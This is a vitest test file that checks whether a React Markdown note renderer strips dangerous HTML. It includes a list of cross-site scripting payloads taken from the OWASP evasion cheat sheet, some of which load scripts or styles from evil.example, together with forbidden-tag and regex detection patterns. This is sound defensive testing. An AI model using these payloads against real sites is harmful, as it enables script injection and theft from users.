import { existsSync, readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import type { Nodes } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { NoteText } from './note-text.tsx';

const RUNS = Number(process.env.FUZZ_RUNS ?? 2_000) / 10;
const SAMPLES = new URL('../../../../../../shared/samples/', import.meta.url);
const render = (markdown: string) =>
  renderToStaticMarkup(createElement(NoteText, { markdown, title: 'Note', tableLabel: 'Table at line {line}' }));

/** Ways in which HTML runs something, after the OWASP filter evasion cheat sheet. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="location"><a name="cookie">x</a>',
  '`<img src=x onerror=alert(1)>`',
  '$\\href{javascript:alert(1)}{x}$',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

const FORBIDDEN = [
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'link',
  'meta',
  'base',
  'form',
  'template',
  'video',
  'foreignobject',
];

/** What a browser would make of it: no tag that runs or fetches, no handler, no address that is code, no picture from elsewhere. */
function expectHarmless(html: string): void {
  check(fromHtml(html, { fragment: true }));
}

function check(node: Nodes): void {
  if (node.type === 'element') {
    expect(FORBIDDEN).not.toContain(node.tagName.toLowerCase());
    for (const [name, value] of Object.entries(node.properties)) {
      expect(name).not.toMatch(/^on/i);
      expect(`${name} ${String(value)}`).not.toMatch(
        /^(?:href|src|action|formAction|xLinkHref) \s*(?:javascript|vbscript|data):/i,
      );
      expect(`${name} ${String(value)}`).not.toMatch(/^style .*url\(/i);
    }
    if (node.tagName === 'img') expect(String(node.properties.src)).toMatch(/^\/media\//);
  }
  if ('children' in node) for (const child of node.children) check(child);
}

describe('a note on its page', () => {
  it.each(ATTACKS)('is harmless with %s', (attack) => {
    expectHarmless(render(`# Note\n\nbefore ${attack} after\n\n${attack}\n`));
  });

  it('is harmless whatever stands in it', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.constantFrom('\n\n', '<', '>', '"', '`', '| '),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => expectHarmless(render(pieces.join('')))),
      { numRuns: RUNS },
    );
  }, 3_600_000);

  it.skipIf(!existsSync(SAMPLES))('is harmless for every sample (shared/samples, skipped where it is absent)', () => {
    for (const name of readdirSync(SAMPLES).filter((file) => file.endsWith('.md')))
      expectHarmless(render(readFileSync(new URL(name, SAMPLES), 'utf8')));
  });

  it('leads links to other notes there, by file and by title, and leaves unknown ones as words', () => {
    const links = { 'sql-and-nosql.md': 'sql-and-nosql', 'tcp and udp': 'tcp-and-udp' };
    const markdown = 'See [tables](./sql-and-nosql.md), [[TCP and UDP]], [[TCP and UDP|the other]] and [[Nowhere]].\n';
    const html = renderToStaticMarkup(createElement(NoteText, { markdown, title: 'Note', tableLabel: '', links }));
    expect(html).toContain('<a href="/library/sql-and-nosql">tables</a>');
    expect(html).toContain('<a href="/library/tcp-and-udp">TCP and UDP</a>');
    expect(html).toContain('<a href="/library/tcp-and-udp">the other</a> and Nowhere.');
  });

  it('colours code in a language that it knows, and leaves all other as it is', () => {
    expect(render('```ts\nconst a = 1;\n```\n')).toContain('<span class="hljs-keyword">const</span>');
    expect(render('```nonsense\nconst a = 1;\n```\n')).toContain('const a = 1;');
  });
});
